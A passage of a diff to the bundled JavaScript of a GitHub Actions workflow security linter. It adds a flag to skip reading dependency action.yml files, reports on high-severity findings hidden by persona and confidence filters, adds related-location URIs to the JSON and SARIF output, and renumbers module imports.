-var NONBLOCK2 = import_node_fs3.constants.O_NONBLOCK ?? 0;
+var NOFOLLOW2 = import_node_fs4.constants.O_NOFOLLOW ?? 0;
+var NONBLOCK2 = import_node_fs4.constants.O_NONBLOCK ?? 0;
 var MISSING = /* @__PURE__ */ Symbol("missing");
 function workflowsFolderOf(path) {
-  const folder = (0, import_node_path3.dirname)(path);
-  if ((0, import_node_path3.basename)(folder) !== "workflows" || (0, import_node_path3.basename)((0, import_node_path3.dirname)(folder)) !== ".github") return null;
-  const name = (0, import_node_path3.basename)(path);
-  return { repoRoot: (0, import_node_path3.dirname)((0, import_node_path3.dirname)(folder)), lockPath: (0, import_node_path3.join)(folder, LOCKFILE_NAME), key: `.github/workflows/${name}` };
+  const folder = (0, import_node_path4.dirname)(path);
+  if ((0, import_node_path4.basename)(folder) !== "workflows" || (0, import_node_path4.basename)((0, import_node_path4.dirname)(folder)) !== ".github") return null;
+  const name = (0, import_node_path4.basename)(path);
+  return { repoRoot: (0, import_node_path4.dirname)((0, import_node_path4.dirname)(folder)), lockPath: (0, import_node_path4.join)(folder, LOCKFILE_NAME), key: `.github/workflows/${name}` };
 }
 function readPlainFileWithin(base2, path) {
-  const rel = (0, import_node_path3.relative)(base2, path);
-  if (rel === "" || rel.startsWith("..") || (0, import_node_path3.isAbsolute)(rel)) return null;
+  const rel = (0, import_node_path4.relative)(base2, path);
+  if (rel === "" || rel.startsWith("..") || (0, import_node_path4.isAbsolute)(rel)) return null;
   let current = base2;
-  const parts = rel.split(import_node_path3.sep);
+  const parts = rel.split(import_node_path4.sep);
   for (let index2 = 0; index2 < parts.length; index2++) {
-    current = (0, import_node_path3.join)(current, parts[index2]);
+    current = (0, import_node_path4.join)(current, parts[index2]);
     try {
-      const stats = (0, import_node_fs3.lstatSync)(current);
+      const stats = (0, import_node_fs4.lstatSync)(current);
       if (stats.isSymbolicLink()) return null;
       if (index2 < parts.length - 1 ? !stats.isDirectory() : !stats.isFile()) return null;
     } catch (error) {
@@ -21357,17 +22316,17 @@ function readPlainFileWithin(base2, path) {
   }
   let fd;
   try {
-    fd = (0, import_node_fs3.openSync)(current, import_node_fs3.constants.O_RDONLY | NOFOLLOW2 | NONBLOCK2);
+    fd = (0, import_node_fs4.openSync)(current, import_node_fs4.constants.O_RDONLY | NOFOLLOW2 | NONBLOCK2);
   } catch {
     return null;
   }
   try {
-    const stats = (0, import_node_fs3.fstatSync)(fd);
+    const stats = (0, import_node_fs4.fstatSync)(fd);
     if (!stats.isFile() || stats.size > MAX_READ_BYTES) return null;
     const bytes = Buffer.alloc(stats.size);
     let read = 0;
     while (read < bytes.length) {
-      const count = (0, import_node_fs3.readSync)(fd, bytes, read, bytes.length - read, read);
+      const count = (0, import_node_fs4.readSync)(fd, bytes, read, bytes.length - read, read);
       if (count === 0) break;
       read += count;
     }
@@ -21375,7 +22334,7 @@ function readPlainFileWithin(base2, path) {
   } catch {
     return null;
   } finally {
-    (0, import_node_fs3.closeSync)(fd);
+    (0, import_node_fs4.closeSync)(fd);
   }
 }
 var LockReader = class {
@@ -21409,7 +22368,7 @@ var LockReader = class {
   viewFor(path, base2, ownText) {
     const folder = workflowsFolderOf(path);
     if (!folder) return unavailable("not-indexed");
-    if ((0, import_node_path3.basename)(path) === LOCKFILE_NAME) {
+    if ((0, import_node_path4.basename)(path) === LOCKFILE_NAME) {
       if (ownText === void 0) return unavailable("not-indexed");
       return available(lockSideView(parseLockText(ownText), folder.repoRoot, base2));
     }
@@ -21427,7 +22386,7 @@ function lockSideView(lock, repoRoot, base2) {
       if (parsed.has(path)) return parsed.get(path);
       let result;
       if (workflowPathProblem(path) === null) {
-        const absolute = (0, import_node_path3.join)(repoRoot, ...path.split("/"));
+        const absolute = (0, import_node_path4.join)(repoRoot, ...path.split("/"));
         const text = readPlainFileWithin(base2, absolute);
         result = text === MISSING ? "missing" : text === null ? void 0 : new ParsedFile(absolute, "workflow", text);
       }
@@ -21524,6 +22483,9 @@ var FLAG_OPTIONS = {
   },
   "--online": (options) => {
     options.online = true;
+  },
+  "--no-follow-dependencies": (options) => {
+    options.followDependencies = false;
   },
   "--no-ignores": (options) => {
     options.noIgnores = true;
@@ -21738,6 +22700,9 @@ Online (off unless --online, a token or a host flag is given):
                              advisories, pins for --fix). Also turned on by a
                              token in GITHUB_TOKEN or GH_TOKEN, or a host flag
       --offline              Make no network request at all (wins over the rest)
+      --no-follow-dependencies
+                             Online, do not read the action.yml of the actions
+                             used (docs/dependency-chain.md)
       --github-server-url <url>, --github-api-url <url>
                              GitHub Enterprise Server addresses; with only the
                              server URL, the API is <url>/api/v3. Otherwise
@@ -21872,17 +22837,17 @@ function diffLines(a, b) {
 }
 
 // server/src/cli/discover.ts
-var import_node_fs6 = require("node:fs");
-var import_node_path6 = require("node:path");
+var import_node_fs7 = require("node:fs");
+var import_node_path7 = require("node:path");
 
 // server/src/files/walk.ts
-var import_node_fs4 = require("node:fs");
-var import_node_path4 = require("node:path");
+var import_node_fs5 = require("node:fs");
+var import_node_path5 = require("node:path");
 var SKIPPED_DIRECTORIES = /* @__PURE__ */ new Set(["node_modules", ".git"]);
 function walkFolder(root, options) {
   const result = { realRoot: "", files: [], skipped: [], errors: [], truncated: false };
   try {
-    result.realRoot = (0, import_node_fs4.realpathSync)(root);
+    result.realRoot = (0, import_node_fs5.realpathSync)(root);
   } catch (error) {
     result.errors.push({ path: root, error });
     return result;
@@ -21910,8 +22875,8 @@ function walkFolder(root, options) {
     let real;
     let key;
     try {
-      real = (0, import_node_fs4.realpathSync)(dir);
-      const stats = (0, import_node_fs4.statSync)(real);
+      real = (0, import_node_fs5.realpathSync)(dir);
+      const stats = (0, import_node_fs5.statSync)(real);
       key = `${stats.dev}:${stats.ino}`;
     } catch (error) {
       result.errors.push({ path: dir, error });
@@ -21925,21 +22890,21 @@ function walkFolder(root, options) {
     visited.add(key);
     let entries;
     try {
-      entries = (0, import_node_fs4.readdirSync)(dir, { withFileTypes: true });
+      entries = (0, import_node_fs5.readdirSync)(dir, { withFileTypes: true });
     } catch (error) {
       result.errors.push({ path: dir, error });
       continue;
     }
     const subdirectories = [];
     for (const entry of entries) {
-      const path = (0, import_node_path4.join)(dir, entry.name);
+      const path = (0, import_node_path5.join)(dir, entry.name);
       if (entry.isSymbolicLink()) {
         let target;
         let isDirectory;
         let isFile2;
         try {
-          target = (0, import_node_fs4.realpathSync)(path);
-          const stats = (0, import_node_fs4.statSync)(target);
+          target = (0, import_node_fs5.realpathSync)(path);
+          const stats = (0, import_node_fs5.statSync)(target);
           isDirectory = stats.isDirectory();
           isFile2 = stats.isFile();
         } catch {
@@ -21958,7 +22923,7 @@ function walkFolder(root, options) {
         if (!SKIPPED_DIRECTORIES.has(entry.name) && depth < maxDepth && !options.ignore?.(path, true))
           subdirectories.push({ path, depth: depth + 1 });
       } else if (entry.isFile() && options.accept(path) && !options.ignore?.(path, false)) {
-        if (!addFile(path, (0, import_node_path4.join)(real, entry.name))) return result;
+        if (!addFile(path, (0, import_node_path5.join)(real, entry.name))) return result;
       }
     }
     subdirectories.sort((a, b) => a.path < b.path ? -1 : a.path > b.path ? 1 : 0).reverse();
@@ -21969,8 +22934,8 @@ function walkFolder(root, options) {
 }
 
 // server/src/cli/gitignore.ts
-var import_node_fs5 = require("node:fs");
-var import_node_path5 = require("node:path");
+var import_node_fs6 = require("node:fs");
+var import_node_path6 = require("node:path");
 var MAX_GITIGNORE_BYTES = 256 * 1024;
 var SLASH = 47;
 var BACKSLASH = 92;
@@ -22195,9 +23160,9 @@ var GitignoreCollector = class {
   realRoot;
   byFolder = /* @__PURE__ */ new Map();
   ignores(path, isDirectory) {
-    const rel = (0, import_node_path5.relative)(this.root, path);
+    const rel = (0, import_node_path6.relative)(this.root, path);
     if (rel === "" || rel.startsWith("..")) return false;
-    const parts = import_node_path5.sep === "/" ? rel.split("/") : rel.split(import_node_path5.sep);
+    const parts = import_node_path6.sep === "/" ? rel.split("/") : rel.split(import_node_path6.sep);
     const files = [];
     for (let depth = 0; depth < parts.length; depth++) {
       const file = this.fileOf(parts.slice(0, depth).join("/"));
@@ -22208,7 +23173,7 @@ var GitignoreCollector = class {
   fileOf(folder) {
     let file = this.byFolder.get(folder);
     if (file === void 0) {
-      const text = readSmallFile(this.realRoot, (0, import_node_path5.join)(this.root, ...folder.split("/").filter(Boolean), ".gitignore"));
+      const text = readSmallFile(this.realRoot, (0, import_node_path6.join)(this.root, ...folder.split("/").filter(Boolean), ".gitignore"));
       const patterns2 = text === null ? [] : parseGitignore(text);
       file = patterns2.length === 0 ? null : { folder, patterns: patterns2 };
       this.byFolder.set(folder, file);
@@ -22227,7 +23192,7 @@ function readSmallFile(root, path) {
     const buffer = Buffer.alloc(Math.min(MAX_GITIGNORE_BYTES, opened.stats.size));
     let read = 0;
     while (read < buffer.length) {
-      const count = (0, import_node_fs5.readSync)(opened.fd, buffer, read, buffer.length - read, read);
+      const count = (0, import_node_fs6.readSync)(opened.fd, buffer, read, buffer.length - read, read);
       if (count === 0) break;
       read += count;
     }
@@ -22235,7 +23200,7 @@ function readSmallFile(root, path) {
   } catch {
     return null;
   } finally {
-    (0, import_node_fs5.closeSync)(opened.fd);
+    (0, import_node_fs6.closeSync)(opened.fd);
   }
 }
 
@@ -22244,10 +23209,10 @@ var STDIN_PATH = "-";
 var STDIN_DISPLAY = "<stdin>";
 function displayPath(absolute, cwd) {
   if (absolute === STDIN_PATH) return STDIN_DISPLAY;
-  const rel = (0, import_node_path6.relative)(cwd, absolute);
+  const rel = (0, import_node_path7.relative)(cwd, absolute);
   if (rel === "") return ".";
-  if (rel.startsWith("..") || (0, import_node_path6.isAbsolute)(rel)) return absolute;
-  return import_node_path6.sep === "/" ? rel : rel.split(import_node_path6.sep).join("/");
+  if (rel.startsWith("..") || (0, import_node_path7.isAbsolute)(rel)) return absolute;
+  return import_node_path7.sep === "/" ? rel : rel.split(import_node_path7.sep).join("/");
 }
 function collectedKind(relativePath) {
   const parts = relativePath.split("/");
@@ -22273,10 +23238,10 @@ function discover(paths, cwd, options = {}) {
       add(STDIN_PATH, "workflow", true, "", "");
       continue;
     }
-    const absolute = (0, import_node_path6.resolve)(cwd, given);
+    const absolute = (0, import_node_path7.resolve)(cwd, given);
     let stats;
     try {
-      stats = (0, import_node_fs6.statSync)(absolute);
+      stats = (0, import_node_fs7.statSync)(absolute);
     } catch (error) {
       errors.push(`${given}: ${describeError(error)}`);
       continue;
@@ -22301,8 +23266,8 @@ function discover(paths, cwd, options = {}) {
       let root;
       let real;
       try {
-        root = (0, import_node_fs6.realpathSync)(rootPath);
-        real = (0, import_node_fs6.realpathSync)(absolute);
+        root = (0, import_node_fs7.realpathSync)(rootPath);
+        real = (0, import_node_fs7.realpathSync)(absolute);
       } catch (error) {
         errors.push(`${given}: ${describeError(error)}`);
         continue;
@@ -22323,7 +23288,7 @@ function discover(paths, cwd, options = {}) {
 function explicitKind(path) {
   const kind = classifyPath(path);
   if (kind !== "unknown") return kind;
-  return /^dependabot\.ya?ml$/i.test((0, import_node_path6.basename)(path)) ? "dependabot" : "unknown";
+  return /^dependabot\.ya?ml$/i.test((0, import_node_path7.basename)(path)) ? "dependabot" : "unknown";
 }
 function kindOfContent(text) {
   let root;
@@ -22344,11 +23309,11 @@ function kindOfContent(text) {
   return { kind: null, span: range ? { start: range[0], end: range[1] } : { start: 0, end: 0 } };
 }
 function explicitFileRoot(absolute) {
-  const parts = absolute.split(import_node_path6.sep);
+  const parts = absolute.split(import_node_path7.sep);
   const dotGithub = parts.lastIndexOf(".github", parts.length - 2);
   const kept = dotGithub >= 0 ? parts.slice(0, dotGithub) : parts.slice(0, -1);
-  const root = kept.join(import_node_path6.sep);
-  return root === "" || /^[A-Za-z]:$/.test(root) ? root + import_node_path6.sep : root;
+  const root = kept.join(import_node_path7.sep);
+  return root === "" || /^[A-Za-z]:$/.test(root) ? root + import_node_path7.sep : root;
 }
 function describeError(error) {
   const code = error?.code;
@@ -22377,10 +23342,10 @@ function ruleDocsUrl(ruleId) {
 }
 
 // server/src/cli/results.ts
-var import_node_fs7 = require("node:fs");
+var import_node_fs8 = require("node:fs");
 var MAX_READ_BYTES2 = 3 * MAX_ANALYSED_LENGTH;
 var decoder = new TextDecoder("utf-8");
-function decode(bytes) {
+function decode2(bytes) {
   return decoder.decode(bytes);
 }
 function readTarget(path, root) {
@@ -22389,13 +23354,13 @@ function readTarget(path, root) {
     try {
       if (stats.size > MAX_READ_BYTES2) {
         const head = Buffer.alloc(4096);
-        const read = (0, import_node_fs7.readSync)(fd, head, 0, head.length, 0);
-        return { ok: true, tooLarge: stats.size, firstLine: decode(head.subarray(0, read)).split(/\r?\n/)[0] };
+        const read = (0, import_node_fs8.readSync)(fd, head, 0, head.length, 0);
+        return { ok: true, tooLarge: stats.size, firstLine: decode2(head.subarray(0, read)).split(/\r?\n/)[0] };
       }
-      const bytes = (0, import_node_fs7.readFileSync)(fd);
-      return { ok: true, text: decode(bytes), file: { real, bytes, stats } };
+      const bytes = (0, import_node_fs8.readFileSync)(fd);
+      return { ok: true, text: decode2(bytes), file: { real, bytes, stats } };
     } finally {
-      (0, import_node_fs7.closeSync)(fd);
+      (0, import_node_fs8.closeSync)(fd);
     }
   } catch (error) {
     return { ok: false, error: error instanceof RefusedError ? `not read: ${error.message}` : describeError(error) };
@@ -22410,11 +23375,16 @@ var onlineSnapshot;
 function useOnlineSnapshot(snapshot) {
   onlineSnapshot = snapshot;
 }
-function analyzeText(path, kind, text, options, parsedAs = path) {
+var dependencyView;
+function useDependencies(view) {
+  dependencyView = view;
+}
+function analyzeText(path, kind, text, options, parsedAs = path, parsed) {
   try {
-    const file = parseFile(parsedAs, kind, text);
+    const file = parsed && parsed.text === text ? parsed : parseFile(parsedAs, kind, text);
     if (onlineSnapshot) attachSnapshot(file, onlineSnapshot);
-    return { path, kind, findings: analyze(file, options), lines: file.lines };
+    const withDependencies = dependencyView && !options.views?.dependencies ? { ...options, views: { ...options.views, dependencies: available(dependencyView) } } : options;
+    return { path, kind, findings: analyze(file, withDependencies), lines: file.lines };
   } catch (error) {
     const lines = new LineIndex(text);
     const message = `Analysis failed on this file: ${error instanceof Error ? error.message : String(error)}`;
@@ -22446,9 +23416,18 @@ function syntheticFinding(ruleId, severity, message, lines, end) {
   const span = { start: 0, end };
   return { ruleId, severity, confidence: "high", persona: "regular", message, span, range: lines.range(span), related: [], fixes: [] };
 }
-function analyzeTarget(target, read, options) {
+function parsedName(target) {
+  return target.virtual?.repoPath ?? target.displayPath;
+}
+function analyzeTarget(target, read, options, parsed) {
   if (!read.ok) return { error: `${target.displayPath}: ${read.error}` };
-  const result = "tooLarge" in read ? tooLargeResult(target.displayPath, target.kind, read.tooLarge, read.firstLine) : analyzeText(target.displayPath, target.kind, read.text, options, target.virtual?.repoPath);
+  const hiddenHigh = [];
+  const onHidden = (finding) => {
+    if (finding.severity === "high") hiddenHigh.push({ persona: finding.persona, confidence: finding.confidence });
+  };
+  const result = "tooLarge" in read ? tooLargeResult(target.displayPath, target.kind, read.tooLarge, read.firstLine) : analyzeText(target.displayPath, target.kind, read.text, { ...options, onHidden }, parsedName(target), parsed);
+  result.filters = { persona: options.persona, minSeverity: options.minSeverity, minConfidence: options.minConfidence };
+  if (hiddenHigh.length > 0) result.hiddenHigh = hiddenHigh;
   if (target.virtual) {
     result.origin = target.virtual.origin;
     result.repoPath = target.virtual.repoPath;
@@ -22457,14 +23436,14 @@ function analyzeTarget(target, read, options) {
 }
 function summarize(results) {
   const bySeverity = Object.fromEntries(SEVERITIES.map((severity) => [severity, 0]));
-  let findings = 0;
+  let findings2 = 0;
   for (const result of results) {
     for (const finding of result.findings) {
       bySeverity[finding.severity]++;
-      findings++;
+      findings2++;
     }
   }
-  return { files: results.length, findings, bySeverity };
+  return { files: results.length, findings: findings2, bySeverity };
 }
 function sortResults(results) {
   for (const result of results) {
@@ -22473,8 +23452,58 @@ function sortResults(results) {
   }
   return results.sort((a, b) => a.path < b.path ? -1 : a.path > b.path ? 1 : 0);
 }
+function summarizeHidden(results) {
+  const persona = results.find((result) => result.filters)?.filters?.persona ?? "regular";
+  const hidden = results.flatMap((result) => (result.hiddenHigh ?? []).map((finding) => ({ finding, filters: result.filters })));
+  if (hidden.length === 0) return null;
+  const byPersona = {};
+  let belowConfidence = 0;
+  let lowestConfidence;
+  for (const { finding, filters } of hidden) {
+    const current = PERSONAS.indexOf(filters?.persona ?? persona);
+    const needed = PERSONAS.indexOf(finding.persona);
+    if (needed > current) {
+      for (const stricter of PERSONAS.slice(needed)) byPersona[stricter] = (byPersona[stricter] ?? 0) + 1;
+    } else {
+      belowConfidence++;
+      if (!lowestConfidence || CONFIDENCES.indexOf(finding.confidence) < CONFIDENCES.indexOf(lowestConfidence))
+        lowestConfidence = finding.confidence;
+    }
+  }
+  return { count: hidden.length, persona, byPersona, belowConfidence, ...lowestConfidence ? { lowestConfidence } : {} };
+}
+
+// shared/src/hidden.ts
+var findings = (count) => `${count} high ${count === 1 ? "finding" : "findings"}`;
+function hiddenSentence(summary, switches) {
+  if (!summary || summary.count === 0) return null;
+  const parts = [];
+  const personas = [];
+  for (const persona of PERSONAS) {
+    const count = summary.byPersona[persona] ?? 0;
+    if (count > (personas[personas.length - 1]?.[1] ?? 0)) personas.push([persona, count]);
+  }
+  if (personas.length > 0) {
+    const total = personas[personas.length - 1][1];
+    const shows = personas.map(
+      ([persona, count], index2) => index2 === 0 && personas.length === 1 ? `${switches.persona(persona)} shows ${count === 1 ? "it" : "them"}` : index2 === personas.length - 1 ? `${switches.persona(persona)} all ${count}` : `${switches.persona(persona)} shows ${count}`
+    );
+    parts.push(`${findings(total)} hidden by the ${summary.persona} persona: ${shows.join(", ")}`);
+  }
+  if (summary.belowConfidence > 0 && summary.lowestConfidence) {
+    const count = summary.belowConfidence;
+    parts.push(
+      `${findings(count)} hidden by the minimum confidence: ${switches.confidence(summary.lowestConfidence)} shows ${count === 1 ? "it" : "them"}`
+    );
+  }
+  return parts.join("; ");
+}
 
 // server/src/cli/format-text.ts
+var CLI_SWITCHES = {
+  persona: (persona) => `--persona ${persona}`,
+  confidence: (confidence) => `--min-confidence ${confidence}`
+};
 var FIX_MARKS = { safe: "[fix]", unsafe: "[fix: --fix=all]" };
 function hyperlink(url, text) {
   return `\x1B]8;;${url}\x1B\\${text}\x1B]8;;\x1B\\`;
@@ -22510,6 +23539,12 @@ function formatText(results, options) {
         tail += ` ${paint(DIM, `(docs: ${url})`)}`;
       }
       out.push(`${location} ${paint(SEVERITY_COLORS[finding.severity], finding.severity)} ${ruleId} ${escapeText(message)}${tail}`);
+      for (const related2 of finding.related) {
+        if (related2.uri === void 0) continue;
+        const file = result.origin ? `${result.origin.label}:${related2.uri}` : related2.uri;
+        const at = `${file}:${related2.range.start.line + 1}:${related2.range.start.character + 1}`;
+        out.push(`  ${paint(DIM, "via")} ${escapeText(at)}: ${escapeText(joinLines(related2.message))}`);
+      }
       if (options.codeFrame)
         out.push(
           ...codeFrame(
@@ -22526,6 +23561,8 @@ function formatText(results, options) {
     out.push(
       summaryLine(results) + (suppressed > 0 ? ` (${suppressed} suppressed by ignore comments or the configuration: --no-ignores shows them)` : "")
     );
+    const hidden = hiddenSentence(summarizeHidden(results), CLI_SWITCHES);
+    if (hidden) out.push(hidden);
     const fixable = fixableLine(results);
     if (fixable) out.push(fixable);
   }
@@ -22606,10 +23643,10 @@ function formatGithub(results) {
 // server/src/cli/format-json.ts
 var JSON_SCHEMA_VERSION = 1;
 function jsonReport(results, options) {
-  const findings = [];
+  const findings2 = [];
   for (const result of results) {
     for (const finding of result.findings) {
-      findings.push({
+      findings2.push({
         path: result.path,
         ruleId: finding.ruleId,
         severity: finding.severity,
@@ -22627,7 +23664,10 @@ function jsonReport(results, options) {
           message: related2.message,
           line: related2.range.start.line + 1,
           column: related2.range.start.character + 1,
-          range: related2.range
+          range: related2.range,
+          // A dependency's file at a commit is an absolute URL; another file of the scan is named as the
+          // finding's own path is (a repository's file with its `owner/repo@commit:` prefix).
+          ...related2.uri === void 0 ? {} : isWebUrl(related2.uri) ? { uri: related2.uri } : { path: result.origin ? `${result.origin.label}:${related2.uri}` : related2.uri }
         })),
         fixes: finding.fixes.map((fix) => ({
           title: fix.title,
@@ -22660,7 +23700,7 @@ function jsonReport(results, options) {
         }
       } : {}
     })),
-    findings,
+    findings: findings2,
     summary: summarize(results)
   };
 }
@@ -22669,7 +23709,7 @@ function formatJson(results, options) {
 }
 
 // server/src/cli/format-sarif.ts
-var import_node_crypto2 = require("node:crypto");
+var import_node_crypto3 = require("node:crypto");
 
 // server/src/cli/rule-meta.ts
 function ruleMeta(id) {
@@ -22769,7 +23809,7 @@ ${meta.help}
       const counter = suppression ? suppressedOccurrences : occurrences;
       const occurrence = counter.get(key) ?? 0;
       counter.set(key, occurrence + 1);
-      const fingerprint = (0, import_node_crypto2.createHash)("sha256").update(`${key}\0${occurrence}`).digest("hex").slice(0, 32);
+      const fingerprint = (0, import_node_crypto3.createHash)("sha256").update(`${key}\0${occurrence}`).digest("hex").slice(0, 32);
       sarifResults.push({
         ruleId: finding.ruleId,
         ruleIndex: ruleIndex.get(finding.ruleId),
@@ -22788,7 +23828,9 @@ ${meta.help}
             id,
             message: { text: related2.message },
             physicalLocation: {
-              artifactLocation: { uri, uriBaseId: "%SRCROOT%" },
+              // A place inside a dependency is an absolute URL of the file at its commit; in another file of
+              // the scan (a caller, a called workflow or action) it is that file's path, as the CLI named it.
+              artifactLocation: related2.uri === void 0 ? { uri, uriBaseId: "%SRCROOT%" } : isWebUrl(related2.uri) ? { uri: related2.uri } : { uri: pathToUri(related2.uri), uriBaseId: "%SRCROOT%" },
               region: {
                 startLine: related2.range.start.line + 1,
                 startColumn: related2.range.start.character + 1,
@@ -22812,10 +23854,26 @@ ${meta.help}
       });
     }
   }
+  const properties = runProperties(results);
   return {
     tool: { driver: { name: TOOL_NAME, version: VERSION, semanticVersion: VERSION, informationUri: INFORMATION_URI, rules } },
     columnKind: "utf16CodeUnits",
-    results: sarifResults
+    results: sarifResults,
+    ...properties ? { properties } : {}
+  };
+}
+function runProperties(results) {
+  const filters = results.flatMap((result) => result.filters ? [result.filters] : []);
+  if (filters.length === 0) return null;
+  const values = (key) => {
+    const unique = [...new Set(filters.map((filter) => filter[key]))].sort();
+    return unique.length === 1 ? unique[0] : unique;
+  };
+  return {
+    persona: values("persona"),
+    minSeverity: values("minSeverity"),
+    minConfidence: values("minConfidence"),
+    hiddenHighFindings: results.reduce((sum, result) => sum + (result.hiddenHigh?.length ?? 0), 0)
   };
 }
 function formatSarif(results, origins = []) {
@@ -22823,19 +23881,19 @@ function formatSarif(results, origins = []) {
 }
 
 // server/src/cli/hosts.ts
-var import_node_fs8 = require("node:fs");
-var import_node_path7 = require("node:path");
+var import_node_fs9 = require("node:fs");
+var import_node_path8 = require("node:path");
 function userConfigPath(env, platform = process.platform) {
-  if (env.XDG_CONFIG_HOME) return (0, import_node_path7.join)(env.XDG_CONFIG_HOME, "actions-warden", "config.yml");
-  if (platform === "win32" && env.APPDATA) return (0, import_node_path7.join)(env.APPDATA, "actions-warden", "config.yml");
+  if (env.XDG_CONFIG_HOME) return (0, import_node_path8.join)(env.XDG_CONFIG_HOME, "actions-warden", "config.yml");
+  if (platform === "win32" && env.APPDATA) return (0, import_node_path8.join)(env.APPDATA, "actions-warden", "config.yml");
   const home = env.HOME || (platform === "win32" ? env.USERPROFILE : void 0);
-  return home ? (0, import_node_path7.join)(home, ".config", "actions-warden", "config.yml") : null;
+  return home ? (0, import_node_path8.join)(home, ".config", "actions-warden", "config.yml") : null;
 }
 function readUserConfig(path) {
   if (!path) return null;
   let text;
   try {
-    text = (0, import_node_fs8.readFileSync)(path, "utf8");
+    text = (0, import_node_fs9.readFileSync)(path, "utf8");
   } catch (error) {
     if (error.code === "ENOENT" || error.code === "ENOTDIR") return null;
     return { path, problems: [`cannot be read: ${error.message}`] };
@@ -22945,61 +24003,6 @@ function refusedRepositoryHosts(config, choice) {
     });
   });
   return problems;
-}
-
-// server/src/resolve/cache.ts
-var import_node_crypto3 = require("node:crypto");
-var import_node_fs9 = require("node:fs");
-var import_node_os = require("node:os");
-var import_node_path8 = require("node:path");
-var FORMAT = 1;
-var TtlCache = class {
-  constructor(dir, now = Date.now) {
-    this.dir = dir;
-    this.now = now;
-  }
-  dir;
-  now;
-  memory = /* @__PURE__ */ new Map();
-  get(key, ttlMs) {
-    const inMemory = this.memory.get(key);
-    if (inMemory && this.now() - inMemory.storedAt < ttlMs) return inMemory.value;
-    if (!this.dir) return void 0;
-    try {
-      const stored = JSON.parse((0, import_node_fs9.readFileSync)(this.file(key), "utf8"));
-      if (stored.format !== FORMAT || stored.key !== key || typeof stored.storedAt !== "number") return void 0;
-      if (this.now() - stored.storedAt >= ttlMs || stored.storedAt > this.now() + 6e4) return void 0;
-      this.memory.set(key, { storedAt: stored.storedAt, value: stored.value });
-      return stored.value;
-    } catch {
-      return void 0;
-    }
-  }
-  set(key, value, persist = true) {
-    const stored = { storedAt: this.now(), value };
-    this.memory.set(key, stored);
-    if (!this.dir || !persist) return;
-    try {
-      (0, import_node_fs9.mkdirSync)(this.dir, { recursive: true });
-      const file = this.file(key);
-      const temporary = `${file}.${process.pid}.${Math.random().toString(36).slice(2)}.tmp`;
-      (0, import_node_fs9.writeFileSync)(temporary, JSON.stringify({ format: FORMAT, key, ...stored }));
-      (0, import_node_fs9.renameSync)(temporary, file);
-    } catch {
-    }
-  }
-  clearMemory() {
-    this.memory.clear();
-  }
-  file(key) {
-    return (0, import_node_path8.join)(this.dir, `${(0, import_node_crypto3.createHash)("sha256").update(key).digest("hex").slice(0, 32)}.json`);
-  }
-};
-function defaultCliCacheDir(env = process.env) {
-  if (env.XDG_CACHE_HOME && (0, import_node_path8.isAbsolute)(env.XDG_CACHE_HOME)) return (0, import_node_path8.join)(env.XDG_CACHE_HOME, "actions-warden");
-  if (process.platform === "win32" && env.LOCALAPPDATA && (0, import_node_path8.isAbsolute)(env.LOCALAPPDATA))
-    return (0, import_node_path8.join)(env.LOCALAPPDATA, "actions-warden", "cache");
-  return (0, import_node_path8.join)((0, import_node_os.homedir)(), ".cache", "actions-warden");
 }
 
 // server/src/resolve/advisories.ts
@@ -23577,7 +24580,7 @@ function repoPath(owner, repo) {
 function encodeRef(ref2) {
   return ref2.split("/").map(encodeURIComponent).join("/");
 }
-async function getJson(http, path) {
+async function getJson2(http, path) {
   const response = await http.request("api", path, {
     auth: "bearer",
     headers: { Accept: JSON_ACCEPT, "X-GitHub-Api-Version": "2022-11-28" }
@@ -23605,7 +24608,7 @@ async function commitSha(http, owner, repo, ref2) {
 async function peelTag(http, owner, repo, tagSha) {
   let sha = tagSha;
   for (let depth = 0; depth < MAX_PEEL_DEPTH; depth++) {
-    const body = await getJson(http, `${repoPath(owner, repo)}/git/tags/${sha}`);
+    const body = await getJson2(http, `${repoPath(owner, repo)}/git/tags/${sha}`);
     if (!body.ok) return body;
     const object = body.value.object;
     if (!object || typeof object.type !== "string" || typeof object.sha !== "string" || !FULL_SHA_RE.test(object.sha)) {
@@ -23621,7 +24624,7 @@ async function listRefsRest(http, owner, repo, now) {
   const branches = [];
   const listing = new RefListing();
   for (const prefix of ["tags", "heads"]) {
-    const body = await getJson(http, `${repoPath(owner, repo)}/git/matching-refs/${prefix}`);
+    const body = await getJson2(http, `${repoPath(owner, repo)}/git/matching-refs/${prefix}`);
     if (!body.ok) return body;
     if (!Array.isArray(body.value)) return fail("malformed", `${http.api.host} sent a malformed ref list for ${owner}/${repo}`);
     for (const item of body.value) {
@@ -23656,7 +24659,7 @@ async function listRefsRest(http, owner, repo, now) {
   return ok({ repository: `${owner}/${repo}`.toLowerCase(), tags, branches, defaultBranch: null, fetchedAt: now });
 }
 async function compare3(http, owner, repo, base2, head) {
-  const body = await getJson(http, `${repoPath(owner, repo)}/compare/${encodeRef(base2)}...${encodeRef(head)}?per_page=1`);
+  const body = await getJson2(http, `${repoPath(owner, repo)}/compare/${encodeRef(base2)}...${encodeRef(head)}?per_page=1`);
   if (!body.ok) return body;
   const status = body.value.status;
   if (status === "identical" || status === "behind" || status === "ahead" || status === "diverged") return ok(status);
@@ -23786,7 +24789,7 @@ var GitHubResolver = class {
     return { status: "impostor", checked };
   }
   /** Memory/disk cache, negative cache, offline and configuration checks, and coalescing, around `load`. */
-  async cached(key, ttlMs, load, owner, repo) {
+  async cached(key, ttlMs, load2, owner, repo) {
     if (this.offline) return fail("offline", "offline mode is on: no request was made");
     if (!this.http) return { ok: false, error: this.configurationError };
     if (!isValidRepoName(owner, repo)) return fail("invalid", `\`${owner}/${repo}\` is not a valid repository name`);
@@ -23800,7 +24803,7 @@ var GitHubResolver = class {
     const promise = (async () => {
       let result;
       try {
-        result = await load(http);
+        result = await load2(http);
       } catch (error) {
         result = fail("network", `unexpected resolver error: ${error instanceof Error ? error.message : String(error)}`);
       }
@@ -23827,7 +24830,7 @@ function wantsOnline(options, env) {
   if (options.offline) return false;
   return options.online || options.githubServerUrl !== void 0 || options.githubApiUrl !== void 0 || Boolean(env.GITHUB_TOKEN || env.GH_TOKEN);
 }
-async function cliOnlineSnapshot(hosts, env, targets3, warn2, resolverOptions = {}) {
+async function cliOnlineSnapshot(hosts, env, targets3, warn2, resolverOptions = {}, options = {}) {
   const resolver = new GitHubResolver({
     serverUrl: hosts.serverUrl,
     apiUrl: hosts.apiUrl,
@@ -23845,10 +24848,14 @@ async function cliOnlineSnapshot(hosts, env, targets3, warn2, resolverOptions = 
   }
   const serverUrl = `${resolver.http.server.origin}${trimEndOf(resolver.http.server.pathname, "/")}`;
   const files = [];
